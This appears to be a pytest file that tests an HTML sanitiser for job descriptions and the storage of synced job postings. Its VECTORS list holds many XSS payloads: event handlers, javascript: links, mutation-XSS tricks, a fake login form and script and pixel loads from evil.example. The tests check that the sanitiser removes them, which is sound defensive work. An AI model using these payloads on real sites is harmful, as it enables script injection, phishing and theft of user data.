"""Positions: descriptions are cleaned once, to a few tags and links to the web; the rows become those of the list."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sqlalchemy import select

from webapp.connectors import Label, Location, RemotePosition, Salary, Translation, UnexpectedAnswer
from webapp.extensions import db, now, transaction
from webapp.models import LinkedAccount, Organisation, Position
from webapp.services import positions
from webapp.services.positions import clean

RUN = "alert(1)"
#: Our own, by class. Each must come out without anything that runs, loads, submits, styles or names.
VECTORS = [
    # handlers
    f"<p onclick={RUN}>x</p>",
    f"<p ONMOUSEOVER='{RUN}'>x</p>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>x</body>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=https://example.com/ onclick={RUN}>x</a>",
    f"<p/onpointerenter={RUN}/x>x</p>",
    f"<p title='x'\nonclick\n=\n{RUN}>x</p>",
    f"<marquee onstart={RUN}>x</marquee>",
    # links that run
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=JaVaScRiPt:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='java\0script:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>x</a>",
    f"<a href='&#106;&#97;vascript:{RUN}'>x</a>",
    f"<a href='&#x6A avascript:{RUN}'>x</a>",
    f"<a href=vbscript:{RUN}>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "<a href='blob:https://example.com/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    # links that lead elsewhere than they look, or to us
    "<a href='//evil.example/'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='https:/\\evil.example'>x</a>",
    "<a href='https://careers.example.com@evil.example/'>x</a>",
    "<a href='https://careers.example.com:x@evil.example/'>x</a>",
    "<a href='https://evil.example/\nSet-Cookie: x'>x</a>",
    "<a href='?q=1'>x</a>",
    "<a rel='opener dofollow' href='https://example.com'>x</a>",
    "<a href='#main'>x</a>",
    "<a href=''>x</a>",
    "<a href=https://example.com target=_top name=status id=main class=button>x</a>",
    # scripts and what is parsed like one
    f"<script>{RUN}</script>x",
    "<SCRIPT src=https://evil.example/x.js></SCRIPT>x",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data='data:text/html,{RUN}'></object><embed src='x.swf'>",
    f"<template><script>{RUN}</script></template>",
    # other languages inside
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- x --!><img src=x onerror={RUN}>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    # what loads, styles or submits
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<picture><source srcset='https://evil.example/1.png'></picture>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<style>@import 'https://evil.example/';p{position:fixed}</style>x",
    "<link rel=stylesheet href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=apply>x</a>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<table background=https://evil.example/1.png><tr><td>x</td></tr></table>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<font color=red face=x>x</font><blink>x</blink><center>x</center>",
    # what our own pages would take for theirs
    "<p hx-get=/logout hx-trigger=load>x</p>",
    "<p data-hx-post='/administration/integrations/ats/switch' data-hx-trigger=load>x</p>",
    "<div id=dialog data-popup=x data-close-window>x</div>",
    "<h2 id=status class=notice role=status aria-live=assertive>x</h2>",
    "<a name=cookie id=getElementById href=https://example.com/>x</a>",
    "<li value=7 contenteditable tabindex=1 accesskey=x draggable=true>x</li>",
    # broken text
    "<p<p<p>>x</p></p",
    "<a href='https://example.com/\"onmouseover=alert(1) x='>x</a>",
    '<a href="https://example.com/&quot; onmouseover=alert(1) x=&quot;">x</a>',
    f"<p title='`<img src=x onerror={RUN}>`'>x</p>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&ltscript&gt{RUN}&lt/script&gt",
    f"\xc0\xbcscript\xc0\xbe{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "<p>\0x\u202e\ud83d\ude00</p>".encode("utf-16", "surrogatepass").decode("utf-16"),
    "{{ 7 * 7 }}{% import os %}${x}#{x}",
]
VOID = {"br", "hr"}


class Oracle(HTMLParser):
    """Reads cleaned HTML as a browser would, and knows only what may be in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.open: list[str] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()
        self.faults += [f"<{tag}> is left open" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in positions.TAGS:
            self.faults.append(f"<{tag}>")
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            if (tag, name) == ("a", "href"):
                self.links.append(value or "")
                if not re.fullmatch(r"(https?://[a-z0-9.-]+(:\d+)?([/?#]\S*)?|mailto:\S+)", value or ""):
                    self.faults.append(f"href={value!r}")
            elif (tag, name, value) != ("a", "rel", "noopener noreferrer nofollow"):
                self.faults.append(f"{tag} {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.open:
            self.faults.append(f"</{tag}> ends nothing")
            return
        while self.open.pop() != tag:
            pass

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("a declaration")


def test_the_corpus_is_as_large_as_it_says():
    assert len(VECTORS) == len(set(VECTORS)) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_runs_loads_submits_styles_or_names_gets_through(vector: str):
    for html in (vector, f"<p>before</p>{vector}<p>after</p>", f"<ul><li>{vector}</ul>", f"<table><td>{vector}"):
        cleaned = clean(html)
        if cleaned is None:
            continue
        assert Oracle(cleaned).faults == [], cleaned
        assert "\0" not in cleaned
        assert clean(cleaned) == cleaned, "cleaned again, it is the same"


def test_text_between_what_is_dropped_is_kept():
    assert clean("<div>We <font color=red>need</font> you<script>no</script>.</div>") == "We need you."
    assert clean("{{ 7 * 7 }} &lt;b&gt;") == "{{ 7 * 7 }} &lt;b&gt;"
    assert clean("<a href='javascript:x'>Apply</a>") == '<a rel="noopener noreferrer nofollow">Apply</a>'


def test_what_a_description_needs_is_kept_as_it_is():
    html = (
        "<h2>Tasks</h2><p>You <strong>pack</strong> and <em>ship</em>,<br>daily.</p><ul><li>one</li></ul>"
        "<ol><li>two</li></ol><blockquote>quote</blockquote><hr><table><thead><tr><th>Day</th></tr></thead>"
        "<tbody><tr><td>Mon</td></tr></tbody></table>"
    )
    assert clean(html) == html
    for address in ("https://example.com/jobs?id=1&x=2#apply", "http://example.com", "mailto:jobs@example.com"):
        cleaned = clean(f'<a href="{address.replace("&", "&amp;")}">Apply</a>') or ""
        assert Oracle(cleaned).links == [address]
        assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_nothing_is_nothing():
    for html in (None, "", " ", "<script>x</script>", "<!-- x -->", "<img src=x>"):
        assert clean(html) is None


def test_a_description_over_64_kib_is_dropped_since_half_of_it_would_be_a_wrong_one():
    most = "x" * positions.DESCRIPTION_LIMIT
    assert positions.DESCRIPTION_LIMIT == 65536
    assert clean(most) == most
    assert clean(most + "x") is None
    assert clean("ü" * 32769) is None, "bytes are counted, not characters"
    assert clean("ü" * 32768) is not None


def test_the_worst_that_fits_is_cleaned_in_a_moment():
    for piece in ("<div>", "<b>", "<a href=https://x.yz/>", "<table>", "<svg>", "<!--", "&", "<p title='", "</p>"):
        html = (piece * positions.DESCRIPTION_LIMIT)[: positions.DESCRIPTION_LIMIT]
        started = time.process_time()
        clean(html)
        assert time.process_time() - started < 1.5, piece


@given(st.lists(st.sampled_from([*VECTORS, "<p>", "</p>", "<a href='", "'", '"', "<", ">", "&", "x", "<!--", "<svg>"])))
@hypothesis_settings(max_examples=150, deadline=None)
def test_vectors_in_any_order_stay_harmless(parts: list[str]):
    cleaned = clean("".join(parts))
    if cleaned is not None:
        assert Oracle(cleaned).faults == []
        assert clean(cleaned) == cleaned


# The hash and the row ---------------------------------------------------------------------------------------------

WHOLE = RemotePosition(
    id="1",
    title="Baker",
    url="https://jobs.example.com/1",
    apply_url="https://jobs.example.com/1/apply",
    department="Bakery",
    team="Night",
    locations=(Location(city="Leeds", country="GB"), Location(name="Anywhere")),
    workplace="on_site",
    employment_type="full_time",
    description_html="<p>Bread</p>",
    posted_at=datetime(2026, 10, 1, tzinfo=UTC),
    updated_at=datetime(2026, 10, 2, tzinfo=UTC),
    closes_at=datetime(2026, 12, 1, tzinfo=UTC),
    language="en",
    requisition="R-1",
    salary=Salary(20_000, 30_000.5, "GBP", "year"),
    company="Northwind",
    category="Food",
    labels=(Label("Shift", "Night"),),
    translations=(Translation("de", "Bäckerin", "<p onclick=x>Brot</p><script>x</script>"),),
    version="v1",
)
OTHER: dict[str, Any] = {
    "id": "2",
    "title": "Cook",
    "url": "https://jobs.example.com/2",
    "apply_url": None,
    "department": None,
    "team": "Day",
    "locations": (Location(city="Leeds", country="IE"),),
    "workplace": "remote",
    "employment_type": None,
    "description_html": "<p>Bread </p>",
    "posted_at": datetime(2026, 10, 1, 0, 0, 1, tzinfo=UTC),
    "updated_at": None,
    "closes_at": None,
    "language": "de",
    "requisition": None,
    "salary": Salary(20_000, 30_000.5, "EUR", "year"),
    "visibility": "internal",
    "company": None,
    "category": None,
    "labels": (),
    "translations": (),
    "version": "v2",
}


def test_the_hash_tells_every_part_apart_and_is_the_same_for_the_same():
    assert positions.content_hash(WHOLE) == positions.content_hash(replace(WHOLE))
    assert set(OTHER) == set(WHOLE.__dataclass_fields__), "a new field? give it another value above"
    hashes = {name: positions.content_hash(replace(WHOLE, **{name: value})) for name, value in OTHER.items()}
    assert len({*hashes.values(), positions.content_hash(WHOLE)}) == len(OTHER) + 1
    assert {len(hashed) for hashed in hashes.values()} == {32}


def test_a_better_cleaner_makes_every_description_new(monkeypatch: pytest.MonkeyPatch):
    before = positions.content_hash(WHOLE)
    monkeypatch.setattr(positions, "CLEANER", positions.CLEANER + 1)
    assert positions.content_hash(WHOLE) != before


@pytest.fixture
def account(app) -> LinkedAccount:
    with transaction() as session:
        organisation = Organisation(name="Northwind Foods")
        session.add(organisation)
        session.flush()
        account = LinkedAccount(organisation_id=organisation.id, ats="workable")
        session.add(account)
    return account


def write(account: LinkedAccount, *found: RemotePosition, listed: tuple[str, ...] = ()) -> tuple[int, int, int]:
    before = positions.stored(account.id)
    hashed = [(p, positions.content_hash(p)) for p in found]
    rows = [positions.as_row(p, h) for p, h in hashed if before.get(p.id, ("", "", None, False))[1] != h]
    with transaction() as session:
        return positions.write(session, account, before, rows, [*(p.id for p in found), *listed], now())


def row(account: LinkedAccount, remote_id: str = "1") -> Position:
    db.session.rollback()
    return db.session.scalars(
        select(Position).where(Position.account_id == account.id, Position.remote_id == remote_id)
    ).one()


def test_a_position_comes_back_from_the_database_as_it_went_in_its_descriptions_cleaned(account: LinkedAccount):
    assert write(account, replace(WHOLE, description_html="<p onclick=x>Bread</p><script>x</script>")) == (1, 0, 0)
    kept = row(account)
    for name in OTHER.keys() - {"id", "description_html", "locations", "salary", "labels", "translations"}:
        assert getattr(kept, name) == getattr(WHOLE, name), name
    assert kept.description_html == "<p>Bread</p>"
    assert kept.locations == [{"city": "Leeds", "country": "GB"}, {"name": "Anywhere"}]
    assert kept.places() == ["Leeds", "Anywhere"]
    assert kept.salary == {"min": 20_000, "max": 30_000.5, "currency": "GBP", "interval": "year"}
    assert kept.labels == [{"name": "Shift", "value": "Night"}]
    assert kept.translations == [{"language": "de", "title": "Bäckerin", "description_html": "<p>Brot</p>"}]
    assert kept.closed_at is None


def test_the_rows_become_those_of_the_list_and_ids_stay(account: LinkedAccount):
    many = [replace(WHOLE, id=str(n)) for n in range(6)]
    assert write(account, *many) == (6, 0, 0)
    ids = {n: row(account, str(n)).id for n in range(6)}
    assert write(account, *many) == (0, 0, 0)
    changed = [replace(many[0], title="Head baker", department=None), *many[1:4]]
    assert write(account, *changed) == (0, 1, 2)
    assert row(account, "0").title == "Head baker"
    assert row(account, "0").department is None
    assert [row(account, str(n)).closed_at is not None for n in range(6)] == [False] * 4 + [True] * 2
    assert write(account, *changed, many[4], replace(many[5], title="Night baker")) == (1, 1, 0)
    assert {n: row(account, str(n)).id for n in range(6)} == ids
    assert row(account, "5").title == "Night baker"
    assert write(account) == (0, 0, 6)


def test_unchanged_ones_are_kept_by_their_id_alone(account: LinkedAccount):
    write(account, WHOLE, replace(WHOLE, id="2"))
    assert write(account, listed=("1", "2", "never heard of")) == (0, 0, 0)
    assert row(account).closed_at is None


def test_the_same_remote_id_in_two_accounts_is_two_positions(account: LinkedAccount):
    with transaction() as session:
        other = LinkedAccount(organisation_id=account.organisation_id, ats="personio")
        session.add(other)
    write(account, WHOLE)
    write(other, replace(WHOLE, title="Elsewhere"))
    assert write(other) == (0, 0, 1)
    assert (row(account).title, row(account).closed_at) == ("Baker", None)
    assert row(other).title == "Elsewhere"


def test_long_and_strange_texts_are_kept_alike_by_both_databases(account: LinkedAccount):
    strange = replace(
        WHOLE,
        id="https://jobs.example.com/" + "x" * 1_500,
        title="👩‍🚀 " + "t" * 500,
        department="d" * 5_000,
        requisition="nul\0nul",
        language="x-" + "very-long-tag-" * 5,
        url="https://jobs.example.com/" + "y" * 3_000,
        labels=(Label("\0 \ud800", "\u2028"),),
    )
    assert write(account, strange) == (1, 0, 0)
    kept = row(account, strange.id)
    assert len(kept.title) == 300
    assert kept.requisition == "nulnul"
    assert kept.url == strange.url
    assert kept.language == strange.language


def test_open_positions_are_the_newest_first_and_those_without_a_date_last(account: LinkedAccount):
    days = [datetime(2026, 10, day, tzinfo=UTC) for day in (3, 1, 2)]
    write(
        account,
        *(replace(WHOLE, id=str(n), title=f"{n}", posted_at=day) for n, day in enumerate(days)),
        replace(WHOLE, id="8", title="b", posted_at=None),
        replace(WHOLE, id="9", title="a", posted_at=None),
    )
    assert [p.remote_id for p in positions.open_positions(account)] == ["0", "2", "1", "9", "8"]
    assert [p.remote_id for p in positions.open_positions(account, limit=2)] == ["0", "2"]


def test_a_position_without_an_id_or_a_title_is_no_position():
    for name in ("id", "title"):
        with pytest.raises(UnexpectedAnswer):
            replace(WHOLE, **{name: " \u200b\0 "})
